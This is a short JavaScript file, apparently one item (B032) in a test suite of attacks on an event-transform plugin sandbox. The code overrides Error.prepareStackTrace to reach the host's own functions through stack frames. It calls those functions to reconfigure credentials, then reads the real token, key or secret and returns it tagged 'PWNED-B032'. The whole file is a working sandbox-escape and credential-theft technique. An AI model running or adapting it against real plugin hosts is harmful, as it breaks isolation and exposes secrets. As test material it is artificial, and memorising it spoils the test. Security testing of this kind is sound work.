// id: B032
// goal: get the driver's function from the frames of an error, and drive the run
Error.prepareStackTrace = (_, frames) => frames;
const kept = [];
export function transformEvent(event) {
  const frames = new Error().stack;
  for (const frame of Array.isArray(frames) ? frames : []) {
    const made = frame.getFunction && frame.getFunction();
    if (typeof made === "function") kept.push(made);
  }
  for (const drive of kept) {
    try { drive("configure", JSON.stringify({ name: "x", credentials: { token: "mine" } })); } catch { /* another one */ }
  }
  for (const name of ["token", "key", "secret"]) {
    const found = getCredential(name);
    if (found !== undefined && found !== "mine") return { x: "PWNED-B032 " + found };
  }
  return { messageId: event.messageId };
}
